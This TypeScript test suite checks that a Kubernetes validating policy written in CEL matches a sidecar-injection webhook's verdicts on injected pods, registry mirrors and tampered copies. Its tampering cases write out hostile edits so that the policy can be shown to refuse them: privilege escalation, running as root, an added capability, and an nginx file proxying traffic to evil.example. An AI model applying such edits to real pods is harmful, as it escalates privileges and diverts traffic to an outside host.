// A pod that arrives carrying this template's status (a reinvocation, a copy of an injected pod)
// is judged by the compiled policies as the webhook judges it: the command, args, image (but for
// a registry mirror's host), securityContext and rendered files of what it carries are compared
// exactly. Evaluated with @marcbachmann/cel-js against the webhook's own verdict.
import t from 'tap';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { evaluate } from '@marcbachmann/cel-js';
import { inject, type PodLike } from '../../src/engine/index.js';
import { sameImage } from '../../src/engine/likeness.js';
import { imageMatches } from '../../src/policy/likeness.js';
import type { Template, TemplateSpec } from '../../src/model/template.js';
import { compileTemplate } from '../../src/template/compile.js';
import { testCatalog } from '../helpers/catalog.js';
import { validation } from '../helpers/policy-eval.js';

const catalog = testCatalog();
/** The validating policy's third validation: what the pod carries under the status is what the template renders. */
const COPY_CHECK = 2;
const FORGED_CHECK = 1;

/** Values the required parameters' patterns take (as in examples/). */
const VALUES: Record<string, string> = {
  repo: 'https://github.com/kubernetes/git-sync',
  shards: 'redis-0.redis:6379,redis-1.redis:6379',
  'tls-secret': 'web-tls',
};

function asking(template: Template, restartPolicy?: string): PodLike {
  const annotations: Record<string, string> = { [`podpattern.dev/${template.spec.pattern}`]: template.name };
  for (const [parameter, spec] of Object.entries(template.spec.parameters)) {
    if (spec.required === true && spec.default === undefined)
      annotations[`${template.name}.podpattern.dev/${parameter}`] = VALUES[parameter] ?? (spec.type === 'integer' ? '1' : 'abc');
  }
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'p', namespace: 'ns', annotations },
    spec: { containers: [{ name: 'app', image: 'example.org/app:1' }], ...(restartPolicy ? { restartPolicy } : {}) },
  };
}

function injected(template: Template, restartPolicy?: string): PodLike {
  const result = inject(asking(template, restartPolicy), catalog, { nativeSidecars: 'always', namespace: 'ns' });
  if (result.outcome !== 'injected') throw new Error(`${template.name}: the webhook did not inject (${result.outcome})`);
  return result.pod;
}

/** Whether the webhook leaves the pod as it is (already injected) rather than injecting again. */
function webhookKeeps(pod: PodLike): boolean {
  const result = inject(pod, catalog, { nativeSidecars: 'always', namespace: 'ns' });
  return result.outcome === 'skipped' && result.reason === 'already-injected';
}

/** `image` behind a mirror: its registry host replaced, or one added where it names none. */
function behindMirror(image: string): string {
  const first = image.split('/')[0] as string;
  const hosted = image.includes('/') && (first.includes('.') || first.includes(':') || first === 'localhost');
  return `mirror.corp.example:5000/${hosted ? image.slice(first.length + 1) : image}`;
}

const builtins = catalog.list().filter((tpl) => tpl.source === 'builtin');

t.test('every built-in as the webhook injects it passes, as it comes and behind a registry mirror', async (t) => {
  for (const template of builtins) {
    for (const restartPolicy of [undefined, 'Never']) {
      const label = `${template.name}${restartPolicy === undefined ? '' : ' (runs to completion)'}`;
      const pod = injected(template, restartPolicy);
      t.ok(validation(template, pod, COPY_CHECK).holds, `${label}: passes`);
      t.ok(validation(template, pod, FORGED_CHECK).holds, `${label}: and the forged-status check`);
      const mirrored = structuredClone(pod);
      for (const c of [...(mirrored.spec?.containers ?? []), ...(mirrored.spec?.initContainers ?? [])]) {
        if (c.name !== 'app') c.image = behindMirror(c.image as string);
      }
      t.ok(webhookKeeps(mirrored), `${label}: the webhook keeps the mirrored images`);
      t.ok(validation(template, mirrored, COPY_CHECK).holds, `${label}: so does the policy`);
    }
  }
});

t.test('the golden cases of near copies: the policy admits what the webhook keeps and refuses what it injects again', async (t) => {
  const proxy = catalog.get('https-proxy') as Template;
  for (const name of ['registry-mirror-kept', 'registry-mirror-other-tag', 'reinject-covering-copy']) {
    const pod = parse(readFileSync(join(import.meta.dirname, '..', 'golden', `${name}.yaml`), 'utf8')) as PodLike;
    const keeps = webhookKeeps(pod);
    t.equal(
      validation(proxy, pod, COPY_CHECK).holds,
      keeps,
      `${name}: ${keeps ? 'kept' : 'refused'}, as the webhook ${keeps ? 'keeps it' : 'injects it again'}`,
    );
  }
});

t.test('each field changed alone on an injected pod: refused where it decides what runs, kept where the API server rewrites', async (t) => {
  const proxy = catalog.get('https-proxy') as Template;
  const base = injected(proxy);
  const edits: [string, boolean, (pod: PodLike, ours: Record<string, any>) => void][] = [
    ['command prefixed', false, (_, c) => c.command.unshift('sh', '-c', 'sleep 86400')],
    ['an arg added', false, (_, c) => (c.args = ['-g', 'daemon off;'])],
    ['another tag', false, (_, c) => (c.image = c.image.replace(/:[^:]+$/, ':latest'))],
    ['another repository behind a host', false, (_, c) => (c.image = `mirror.example/evil/${c.image}`)],
    ['a path component as host', false, (_, c) => (c.image = `evil/${c.image}`)],
    ['a capability added', false, (_, c) => (c.securityContext.capabilities.add = ['NET_ADMIN'])],
    ['privileged', false, (_, c) => (c.securityContext.privileged = true)],
    ['another user', false, (_, c) => (c.securityContext.runAsUser = 0)],
    ['runAsNonRoot dropped', false, (_, c) => delete c.securityContext.runAsNonRoot],
    ['seccomp Unconfined', false, (_, c) => (c.securityContext.seccompProfile = { type: 'Unconfined' })],
    ['restartPolicy dropped', false, (_, c) => delete c.restartPolicy],
    [
      'a file of its own',
      false,
      (pod) =>
        ((pod.metadata?.annotations as Record<string, string>)['https-proxy.podpattern.dev/file.nginx.conf'] =
          'daemon off; events {} http { server { listen 8443; location / { proxy_pass http://evil.example; } } }'),
    ],
    ["the API server's procMount default", true, (_, c) => (c.securityContext.procMount = 'Default')],
    [
      'the ServiceAccount token mounted',
      true,
      (_, c) =>
        c.volumeMounts.push({ name: 'kube-api-access-x', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true }),
    ],
    ['quantities in canonical form', true, (_, c) => (c.resources.limits.cpu = '0.5')],
    ['a digest a mirror added', true, (_, c) => (c.image = `${c.image}@sha256:${'a'.repeat(64)}`)],
  ];
  for (const [label, kept, edit] of edits) {
    const pod = structuredClone(base);
    const ours = [...(pod.spec?.initContainers ?? []), ...(pod.spec?.containers ?? [])].find((c) => c.name === 'https-proxy');
    edit(pod, ours as Record<string, any>);
    t.equal(webhookKeeps(pod), kept, `${label}: the webhook ${kept ? 'keeps it' : 'injects again'}`);
    const verdict = validation(proxy, pod, COPY_CHECK);
    t.equal(verdict.holds, kept, `${label}: the policy ${kept ? 'admits it' : 'refuses it'}`);
    if (!kept)
      t.match(
        verdict.message,
        /says template https-proxy is injected, but the pod's copy of its containers or files is not what it renders/,
      );
  }
});

t.test('text rendered from $(pod.name) may be any text, the rest exactly', async (t) => {
  const spec: TemplateSpec = {
    pattern: 'sidecar',
    description: 'test',
    parameters: { v: { type: 'string', default: 'x' } },
    containers: [{ name: 'named', image: 'example.org/named:1', args: ['--id=$(pod.name).$(params.v)'] }],
    initContainers: [],
    volumes: [],
    files: { f: 'pod $(pod.name) in $(pod.namespace) says $(params.v)' },
    app: {},
    podAnnotations: {},
  };
  const compiled = compileTemplate('named', spec);
  if (!compiled.ok) throw new Error(compiled.problems.join('; '));
  const template: Template = { name: 'named', hash: '0123456789abcdef', source: 'builtin', spec, compiled: compiled.compiled };
  const status = JSON.stringify({ templates: [{ name: 'named', pattern: 'sidecar', hash: template.hash }] });
  const pod = (name: string, args: string[], file: string): PodLike => ({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name,
      annotations: { 'podpattern.dev/sidecar': 'named', 'podpattern.dev/status': status, 'named.podpattern.dev/file.f': file },
    },
    spec: {
      containers: [{ name: 'app', image: 'x' }],
      initContainers: [
        {
          name: 'named',
          image: 'example.org/named:1',
          args,
          restartPolicy: 'Always',
          securityContext: {
            allowPrivilegeEscalation: false,
            capabilities: { drop: ['ALL'] },
            runAsNonRoot: true,
            seccompProfile: { type: 'RuntimeDefault' },
          },
        },
      ],
    },
  });
  t.ok(
    validation(template, pod('web-7f9c', ['--id=web-abc12.x'], 'pod web-abc12 in shop says x'), COPY_CHECK).holds,
    'another pod name and namespace: ours',
  );
  t.notOk(
    validation(template, pod('web', ['--id=web.y'], 'pod web in shop says x'), COPY_CHECK).holds,
    'another parameter value in args: not ours',
  );
  t.notOk(
    validation(template, pod('web', ['--id=web.x'], 'pod web in shop says y'), COPY_CHECK).holds,
    'another parameter value in the file: not ours',
  );
  t.notOk(validation(template, pod('web', ['--id=web.x', '--more'], 'pod web in shop says x'), COPY_CHECK).holds, 'an arg added: not ours');
});

t.test("the registry-mirror rule in CEL is the webhook's, for any image pair", async (t) => {
  const host = fc.constantFrom('', 'docker.io/', 'mirror.corp.example:5000/', 'localhost/', 'localhost:5000/', 'registry/', 'a.b/c/');
  const path = fc.constantFrom('nginx', 'library/nginx', 'nginxinc/nginx-unprivileged', 'library/redis', 'org/team/app');
  const tag = fc.constantFrom('', ':1.29', ':1.29.0-alpine', ':latest');
  const digest = fc.constantFrom('', `@sha256:${'a'.repeat(64)}`, `@sha256:${'b'.repeat(64)}`);
  const image = fc.tuple(host, path, tag, digest).map((parts) => parts.join(''));
  fc.assert(
    fc.property(image, image, (expected, actual) => {
      const got = evaluate(imageMatches('image', expected, { template: catalog.get('https-proxy') as Template }), { image: actual });
      if (got !== sameImage(expected, actual))
        throw new Error(`${expected} vs ${actual}: the policy says ${String(got)}, the webhook ${String(sameImage(expected, actual))}`);
    }),
    { numRuns: 2000 },
  );
  t.pass('2,000 image pairs');
});
